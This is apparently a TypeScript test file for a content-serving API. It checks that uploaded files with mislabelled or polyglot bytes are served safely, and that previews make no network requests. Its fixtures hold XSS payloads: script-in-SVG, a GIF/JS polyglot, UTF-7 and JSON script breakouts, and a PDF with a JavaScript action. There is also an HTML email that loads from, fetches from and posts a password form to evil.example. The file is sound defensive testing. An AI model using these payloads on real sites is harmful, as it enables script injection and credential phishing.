import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { blobOf } from "@/lib/content/pieces";
import { packContribution } from "@/lib/content/pack";
import { parseBatch } from "@/lib/content/parse/batch";
import { previewItem } from "@/lib/content/parse/preview";
import type { NewItem } from "@/lib/content/contribution";
import type { MediaType } from "@/lib/content/schema";
import { english } from "@/lib/texts/text";
import { stream, utf8 } from "./fixtures";
import { receiveCar } from "./receive";
import { serveContent } from "./serve";
import { ContentStore } from "./store";

const join = (...parts: (Uint8Array | string)[]) =>
  Uint8Array.from(
    Buffer.concat(parts.map((part) => (typeof part === "string" ? utf8(part) : part))),
  );
const GIF = Buffer.from("R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=", "base64");
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const HTML = "<!doctype html><script>alert(1)</script>";
const MAIL = [
  "From: a@evil.example",
  "Subject: hello",
  "MIME-Version: 1.0",
  "Content-Type: text/html; charset=utf-8",
  "",
  '<html><head><link rel="stylesheet" href="https://evil.example/x.css"></head><body>',
  '<img src="https://evil.example/pixel.gif?you"><p style="background:url(https://evil.example/b)">Hi</p>',
  '<script>fetch("https://evil.example")</script><iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><input name=password></form></body></html>',
].join("\r\n");

/** Bytes that pretend: each with the type its manifest claims for it. */
const HOSTILE: [name: string, mediaType: MediaType, bytes: Uint8Array][] = [
  ["HTML as text", "text/plain", utf8(HTML)],
  ["HTML behind a UTF-16 mark", "text/plain", join(Uint8Array.of(0xff, 0xfe), HTML)],
  ["UTF-7 script", "text/plain", utf8("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")],
  ["SVG as a PNG", "image/png", utf8(SVG)],
  ["HTML as a JPEG", "image/jpeg", utf8(HTML)],
  ["a PNG that is also HTML", "image/png", join(PNG, HTML)],
  ["a GIF that is also a script", "image/gif", join("GIF89a=1;alert(1)//", GIF.subarray(6))],
  ["a PDF as a WebP", "image/webp", utf8("%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>")],
  ["a mail with a remote picture", "message/rfc822", utf8(MAIL)],
  ["JSON that is a script", "application/json", utf8('{"a":"</script><script>alert(1)//"}')],
];

let directory: string;
let store: ContentStore;
let cid: string;
beforeEach(async () => {
  directory = await mkdtemp(path.join(tmpdir(), "hostile-"));
  store = new ContentStore(directory);
  const items: NewItem<Uint8Array>[] = HOSTILE.map(([title, mediaType, bytes]) => ({
    title,
    mediaType,
    bytes,
  }));
  const contributor = "0x00000000000000000000000000000000000000aa";
  const packed = await packContribution({ kind: "data", datanet: 1, contributor, items });
  cid = (await receiveCar(store, stream(packed.car as Uint8Array[]))).cid;
});
afterEach(async () => {
  vi.unstubAllGlobals();
  await rm(directory, { recursive: true, force: true });
});

function get(file: string, query = "?contribution=1"): Promise<Response> {
  const request = new Request(`http://localhost/api/content/${cid}/${file}${query}`);
  const segments = file === "" ? [] : file.split("/");
  const visibility = async () => ({ state: "open", struck: 0n }) as const;
  return serveContent(store, request, { cid, path: segments }, visibility);
}

const EXTENSION: Partial<Record<MediaType, string>> = {
  "text/plain": "txt",
  "application/json": "json",
  "message/rfc822": "eml",
  "image/png": "png",
  "image/jpeg": "jpg",
  "image/gif": "gif",
  "image/webp": "webp",
};
const SERVED = new Set([
  "text/plain; charset=utf-8",
  "application/json",
  "image/png",
  "image/gif",
  "application/octet-stream",
]);

describe("bytes that pretend to be something else", () => {
  it.each(HOSTILE.map(([name, type], i) => [name, type, i] as const))(
    "%s: served so that nothing of it can run, load, post or be framed",
    async (_, type, index) => {
      const file = `items/${String(index).padStart(3, "0")}.${EXTENSION[type]}`;
      const { headers } = await get(file);
      expect(headers.get("x-content-type-options")).toBe("nosniff");
      const policy = headers.get("content-security-policy")!;
      expect(policy.split("; ")).toEqual(
        expect.arrayContaining(["sandbox", "default-src 'none'", "frame-ancestors 'none'"]),
      );
      expect(policy).not.toMatch(/allow-|unsafe|https?:|\*/);
      expect(headers.get("cross-origin-resource-policy")).toBe("same-origin");
      expect(headers.get("referrer-policy")).toBe("no-referrer");
      const served = headers.get("content-type")!;
      expect(SERVED).toContain(served);
      const lies = !served.startsWith("text/") && served !== type;
      expect(headers.get("content-disposition")).toBe(lies ? "attachment" : null);
    },
  );

  it.each([3, 4, 7])("file %i is a download, because its bytes are not of its type", async (i) => {
    const type = HOSTILE[i]![1];
    const response = await get(`items/00${i}.${EXTENSION[type]}`);
    expect(response.headers.get("content-type")).toBe("application/octet-stream");
    expect(response.headers.get("content-disposition")).toBe("attachment");
  });

  it("a whole contribution is a download", async () => {
    const { headers, body } = await get("", "?contribution=1&format=car");
    expect(headers.get("content-disposition")).toMatch(/^attachment; filename="baf\w+\.car"$/);
    expect(headers.get("x-content-type-options")).toBe("nosniff");
    await body?.cancel();
  });
});

describe("previews", () => {
  it("make no request and give back nothing but text, sizes and plain pictures", async () => {
    const fetched = vi.fn(() => Promise.reject(new Error("a preview made a request")));
    vi.stubGlobal("fetch", fetched);
    for (const [name, mediaType, bytes] of HOSTILE) {
      const preview = await previewItem(mediaType, bytes);
      expect(["text", "row", "email", "image", "unreadable"], name).toContain(preview.kind);
    }
    expect(fetched).not.toHaveBeenCalled();
  });

  it("of a mail are its words, without its pictures, scripts, frames and forms", async () => {
    const preview = await previewItem("message/rfc822", utf8(MAIL));
    expect(preview).toMatchObject({ kind: "email", fromHtml: true });
    const { text } = preview as { text: string };
    expect(text).toContain("Hi");
    expect(text).not.toMatch(/evil\.example|fetch|<\w/);
  });

  it("of a picture with another type's bytes say that it is none", async () => {
    for (const index of [3, 4, 7]) {
      const [, type, bytes] = HOSTILE[index]!;
      expect(await previewItem(type, bytes)).toMatchObject({ kind: "unreadable" });
    }
  });
});

describe("files that a person picks", () => {
  it.each([
    ["vector.svg", SVG],
    ["vector.png", SVG],
    ["page.jpg", HTML],
    ["page.html", HTML],
  ])("%s is not taken as a picture", async (name, content) => {
    const bytes = utf8(content);
    const file = { path: name, size: bytes.length, read: async () => bytes, file: blobOf([bytes]) };
    const result = await parseBatch([file], { type: "image", labels: "none" });
    expect(result.items).toEqual([]);
    expect(english(result.files[0]!.sentence!)).toContain(name);
  });
});
